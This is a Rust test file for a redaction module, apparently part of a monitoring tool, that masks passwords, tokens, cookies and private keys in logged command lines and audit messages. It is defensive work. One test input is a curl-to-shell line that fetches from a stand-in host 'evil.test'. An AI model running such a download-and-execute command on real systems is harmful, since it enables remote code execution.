//! What is taken out of command lines and messages, and what stays.

use std::sync::{Arc, LazyLock};

use proptest::prelude::*;
use serde_json::json;

use super::*;
use crate::event::build::build;
use crate::event::{AuditMessage, Detail, Event, Process};

/// The command line of a program with these arguments, as it is told.
fn told_by(redaction: &Redaction, args: &[&str]) -> String {
    let (event, _) = build(&json!({"programName": "/bin/x", "args": args})).unwrap();
    String::from_utf8(redaction.event(&event).process.image.args.joined().to_vec()).unwrap()
}

fn written(args: &[&str]) -> String {
    told_by(&Redaction::default(), args)
}

fn own(patterns: &[&str], exceptions: &[&str]) -> Redaction {
    let texts = |texts: &[&str]| texts.iter().map(|text| (*text).to_owned()).collect();
    Redaction::new(Settings { patterns: texts(patterns), exceptions: texts(exceptions), ..Settings::default() })
}

#[test]
fn each_shipped_pattern_compiles() {
    let patterns = shipped::patterns();
    // A line that all of them are held against.
    assert!(patterns.iter().all(|pattern| pattern.secrets(b"ls").next().is_none()));
    let long = Pattern::new(r"\w{500}{500}", false).unwrap();
    assert!(pattern::any_of(&[long]).unwrap().is_match(b"ls"), "where they are too large together, each is tried");
}

#[test]
fn secrets_are_taken_out_and_all_else_is_told() {
    // `S1` and `S2` stand for secrets.
    for args in [
        // Options and variables.
        &["x", "--password=S1", "-v"][..],
        &["x", "--password", "S1", "-v"],
        &["x", "--db-Password=S1"],
        &["java", "-Dspring.datasource.password=S1", "-jar", "a.jar"],
        &["x", "-token", "S1", "https://host.test/"],
        &["x", "--api-key", "S1", "--client-secret=S2"],
        &["env", "AWS_SECRET_ACCESS_KEY=S1", "AWS_REGION=eu", "aws", "s3", "ls"],
        &["docker", "run", "-e", "POSTGRES_PASSWORD=S1", "-eAPI_TOKEN=S2", "-p", "80:80", "img"],
        &["sh", "-c", "PGPASSWORD=S1 psql -h db; export MYSQL_PWD=S2 && id"],
        &["sh", "-c", "mysql --user=a --password='S1' db | gzip"],
        &["openssl", "enc", "-passin", "pass:S1", "-in", "f"],
        &["keytool", "-storepass", "S1", "-list"],
        // Programs whose options name nothing.
        &["/usr/bin/mysql", "-u", "root", "-pS1", "db"],
        &["mariadb-dump", "-pS1", "--all-databases"],
        &["sshpass", "-p", "S1", "ssh", "-p", "22", "host"],
        &["curl", "-s", "-u", "me:S1", "https://host.test/"],
        &["curl", "--user", "me:S1", "--proxy-user=you:S2", "https://host.test/"],
        &["docker", "login", "-u", "me", "-p", "S1", "registry.test"],
        &["ldapsearch", "-x", "-w", "S1", "-b", "dc=test"],
        &["redis-cli", "-h", "db", "-a", "S1", "PING"],
        &["smbclient", "//host/share", "-U", "me%S1"],
        &["useradd", "-m", "-p", "S1", "bob"],
        &["7z", "a", "-pS1", "out.7z", "in"],
        &["aws", "configure", "set", "aws_secret_access_key", "S1"],
        // Parts of arguments.
        &["git", "clone", "https://me:S1@host.test/repo.git"],
        &["psql", "postgresql://me:S1@db.test:5432/app?sslmode=require"],
        &["curl", "https://host.test/a?access_token=S1&page=2"],
        &["curl", "-d", r#"{"user":"me","password":"S1","n":1}"#, "host.test"],
        &["x", "Server=db;Uid=me;Pwd=S1;Database=a"],
        &["curl", "-H", "Authorization: Bearer S1", "host.test"],
        &["curl", "-H", "authorization: Basic S1", "-H", "X-Vault-Token: S2", "host.test"],
        &["curl", "-HX-Api-Key: S1", "-H", "PRIVATE-TOKEN: S2", "host.test"],
        &["curl", "-H", "Cookie: sid=S1; a=S1", "host.test"],
    ] {
        let secrets = [("S1", "0123456789abcdefG"), ("S2", "s3cr3t/+~%x")];
        let put = |text: &str, with: fn(&str) -> &str| {
            secrets.iter().fold(text.to_owned(), |text, (name, secret)| text.replace(name, with(secret)))
        };
        let given: Vec<String> = args.iter().map(|arg| put(arg, |secret| secret)).collect();
        let given: Vec<&str> = given.iter().map(String::as_str).collect();
        let line = written(&given);
        // Quotes go with what is in them, and cookies as one.
        let wanted = put(&args.join(" "), |_| MARK).replace("'[redacted]'", MARK);
        let wanted = wanted.replace("sid=[redacted]; a=[redacted]", MARK);
        assert_eq!(line, wanted);
        assert_eq!(written(&[&line]), line, "what was taken out is not taken out again");
    }
}

#[test]
fn ordinary_command_lines_are_told_whole() {
    for args in [
        &["ls", "-p"][..],
        &["mkdir", "-p", "/srv/token", "/srv/secret"],
        &["ssh", "-p", "22", "host"],
        &["mysql", "-u", "root", "-p", "db"],
        &["docker", "run", "-p", "80:80", "img"],
        &["git", "commit", "-m", "read the token from a file: no password any more"],
        &["x", "--password-file", "/run/secrets/a", "--token-path=/x"],
        &["x", "--max-tokens=5", "--tokenizer", "a"],
        &["x", "PWD=/root", "OLDPWD=/", "KEYS=1"],
        &["grep", "-r", "password", "/etc"],
        &["curl", "https://host.test:8443/a@b?page=2#token"],
        &["ssh", "me@host.test"],
        &["passwd", "bob"],
        &["find", "/", "-name", "*secret*"],
        &["-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----"],
        &["rsync", "-a", "a:b", "c"],
        &["wget", "-U", "Mozilla/5.0", "https://host.test/"],
    ] {
        assert_eq!(written(args), args.join(" "));
    }
}

#[test]
fn a_private_key_goes_with_or_without_its_end() {
    let begin = "-----BEGIN OPENSSH PRIVATE KEY-----";
    let body = "b3BlbnNzaC1r/ZXktdjE+AAA=\nAAAA";
    let whole = format!("{begin}\n{body}\n-----END OPENSSH PRIVATE KEY-----");
    assert_eq!(written(&["x", &whole, "y"]), format!("x {begin}{MARK}-----END OPENSSH PRIVATE KEY----- y"));
    assert_eq!(written(&["x", &format!("{begin}\n{body}")]), format!("x {begin}{MARK}"));
}

#[test]
fn tokens_that_say_what_they_are_go_wherever_they_stand() {
    let letters = "abcdefghij0123456789ABCDEFGHIJ0123456789";
    for token in [
        format!("ghp_{}", &letters[..36]),
        format!("glpat-{}", &letters[..20]),
        format!("eyJ{letters}.{letters}.{letters}"),
    ] {
        assert_eq!(written(&["x", &format!("a,{token},b")]), format!("x a,{MARK},b"));
    }
}

#[test]
fn a_value_with_blanks_goes_whole_and_a_script_behind_it_stays() {
    assert_eq!(written(&["x", "--password=a b c", "d"]), "x --password=[redacted] d");
    assert_eq!(written(&["x", "--password", "a b c", "d"]), "x --password [redacted] d");
    assert_eq!(written(&["sh", "-c", "TOKEN=a curl evil.test | sh"]), "sh -c TOKEN=[redacted] curl evil.test | sh");
    let (event, _) = build(&json!({"programName": "/bin/x", "args": ["x", "--password=a b", "c"]})).unwrap();
    assert_eq!(Redaction::default().event(&event).process.image.args.iter().count(), 3);
}

#[test]
fn own_patterns_and_exceptions() {
    let pin = own(&[r"--pin[= ](\S+)", "XX[0-9]+"], &[]);
    assert_eq!(
        told_by(&pin, &["x", "--pin", "12", "XX34", "--token=a"]),
        "x --pin [redacted] [redacted] --token=[redacted]"
    );
    let public = own(&[], &["--token=public", "(?i)--token-hint [a-z]+"]);
    assert_eq!(told_by(&public, &["x", "--token=public"]), "x --token=public");
    assert_eq!(told_by(&public, &["x", "--token=publican"]), "x --token=[redacted]");
    let own_alone = Redaction::new(Settings { defaults: false, patterns: vec!["a(b)".into()], ..Settings::default() });
    assert_eq!(told_by(&own_alone, &["x", "ab", "--token=a"]), "x a[redacted] --token=a");
    let off = Redaction::new(Settings { enabled: false, ..Settings::default() });
    assert_eq!(told_by(&off, &["x", "--token=a"]), "x --token=a");
}

#[test]
fn ancestors_and_targets_are_told_likewise() {
    let (event, _) = build(&json!({
        "programName": "/bin/x", "args": ["x"],
        "lineage": [{"programName": "/bin/sh", "args": ["sh", "a"]}, {"args": ["y", "--token=abc"]}, {"args": ["init"]}],
    }))
    .unwrap();
    let told = Redaction::default().event(&event);
    let lines = |event: &Event| -> Vec<String> {
        event.process.ancestors().map(|it| String::from_utf8_lossy(it.image.args.joined()).into_owned()).collect()
    };
    assert_eq!(lines(&told), ["sh a", "y --token=[redacted]", "init"]);
    assert_eq!(lines(&event)[1], "y --token=abc", "rules see what happened");
    let (event, host) = build(&json!({"programName": "/bin/gdb", "targetCommandLine": "y --token=abc"})).unwrap();
    let field = crate::event::fields::by_name("targetCommandLine").unwrap();
    let value = crate::event::json::as_text(field.of(&Redaction::default().event(&event), &host));
    assert!(value.as_ref().is_some_and(|text| text.contains(MARK) && !text.contains("abc")), "{value:?}");
}

#[test]
fn what_has_no_secret_is_the_same_process() {
    let (event, _) = build(&json!({"args": ["x", "y"], "lineage": [{"args": ["sh"]}]})).unwrap();
    assert!(Arc::ptr_eq(&Redaction::default().event(&event).process, &event.process));
    // An ancestor that has none itself stays the same one, too.
    let (event, _) = build(&json!({"args": ["x", "--token=a"], "lineage": [{"args": ["sh"]}]})).unwrap();
    let redaction = Redaction::default();
    let (first, second) = (redaction.process(&event.process), redaction.process(&event.process));
    let parent = |process: &Arc<Process>| Arc::clone(process.parent.as_ref().unwrap());
    assert!(Arc::ptr_eq(&parent(&first), &parent(&event.process)));
    assert!(Arc::ptr_eq(&first.image, &second.image), "it is looked for once");
}

#[test]
fn after_a_reload_the_new_patterns_count_at_once() {
    let (event, _) = build(&json!({"args": ["x", "--token=a", "--pin=1"]})).unwrap();
    let line = |redaction: &Redaction| {
        String::from_utf8_lossy(redaction.event(&event).process.image.args.joined()).into_owned()
    };
    let (before, after) = (Redaction::default(), own(&[r"--pin=(\S+)"], &["--token=a"]));
    assert_eq!(line(&before), "x --token=[redacted] --pin=1");
    assert_eq!(line(&after), "x --token=a --pin=[redacted]");
    assert!(!after.is_like(&before) && before.is_like(&Redaction::default()));
}

/// A message, as it is told.
fn message(text: &str) -> Option<AuditMessage> {
    let process = Arc::default();
    let detail = Detail::Audit(Arc::new(AuditMessage::new(1123, text.as_bytes(), text.len(), 0)));
    let event = Event { kind: schema::EventType::AuditMessage, time: 0, process, detail };
    match Redaction::default().event(&event).detail {
        Detail::Audit(message) => Some(AuditMessage::clone(&message)),
        _ => None,
    }
}

#[test]
fn audit_messages_are_told_without_them_also_where_they_are_digits() {
    let digits = |text: &str| text.bytes().map(|byte| format!("{byte:02X}")).collect::<String>();
    let sent = format!("cwd=\"/root\" cmd={} terminal=pts/0 res=success", digits("mysql --password=hunter2 db"));
    let told = message(&sent).unwrap();
    assert_eq!(String::from_utf8_lossy(&told.text), sent.replace(&digits("hunter2"), &digits(MARK)));
    let command = told.fact(crate::event::audit::Fact::Command).unwrap();
    assert_eq!(String::from_utf8_lossy(command), format!("mysql --password={MARK} db"));
    let plain = message("op=x cmd=\"a --token=abc\" res=success").unwrap();
    assert_eq!(String::from_utf8_lossy(&plain.text), format!("op=x cmd=\"a --token={MARK}\" res=success"));
    assert!(!String::from_utf8_lossy(plain.pairs().joined()).contains("abc"));
}

#[test]
fn a_wrong_pattern_is_told_with_its_place() {
    let fault = |text: &str| check(text).unwrap_err().to_string();
    assert!(fault("a(b").contains("no regular expression"), "{}", fault("a(b"));
    assert!(fault("x*").contains("nothing stands"), "{}", fault("x*"));
    assert!(fault(r"\w{500}{500}").contains("too large"), "{}", fault(r"\w{500}{500}"));
}

proptest! {
    #[test]
    fn any_bytes_are_told_without_what_is_matched(
        args in prop::collection::vec("[-=:@/ a-c'\"]{0,6}|--token|TOKEN=|secret|\\PC{0,4}", 1..8), cut in 0_usize..40,
    ) {
        static REDACTION: LazyLock<Redaction> = LazyLock::new(Redaction::default);
        let redaction = &*REDACTION;
        let mut bytes = args.join("\0").replace("\0\0", "\0x\0").into_bytes();
        bytes.push(0);
        let cut = cut.min(bytes.len());
        let mut whole = crate::event::Arguments::default();
        whole.set(&bytes, &[], bytes.len() as u64, false);
        let mut parts = crate::event::Arguments::default();
        parts.set(&bytes[..cut], &bytes[cut..], bytes.len() as u64 + 9, false);
        for args in [whole, parts] {
            let event = |args| {
                let image = crate::event::Image { args, ..Default::default() };
                let process = Arc::new(Process { image: Arc::new(image), ..Process::default() });
                Event { kind: schema::EventType::Exec, time: 0, process, detail: Detail::None }
            };
            let before = event(args.clone());
            let told = redaction.event(&before);
            let told = &told.process.image.args;
            prop_assert_eq!((told.iter().count(), told.total(), told.is_cut()), (args.iter().count(), args.total(), args.is_cut()));
        }
    }
}
